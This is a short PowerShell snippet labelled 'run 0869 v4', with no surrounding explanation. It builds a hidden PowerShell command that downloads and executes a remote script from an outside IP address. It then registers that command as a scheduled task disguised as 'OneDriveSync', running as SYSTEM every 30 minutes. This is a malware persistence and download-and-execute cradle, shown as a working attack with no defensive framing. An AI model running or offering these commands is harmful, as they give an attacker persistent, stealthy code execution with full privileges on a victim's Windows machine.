# run 0869 v4
$cmd = "powershell.exe -nop -w hidden -c `"IEX ((new-object net.webclient).downloadstring('http://198.51.100.9:443/update.ps1'))`""
schtasks /create /tn "OneDriveSync" /tr $cmd /sc minute /mo 30 /ru SYSTEM /f
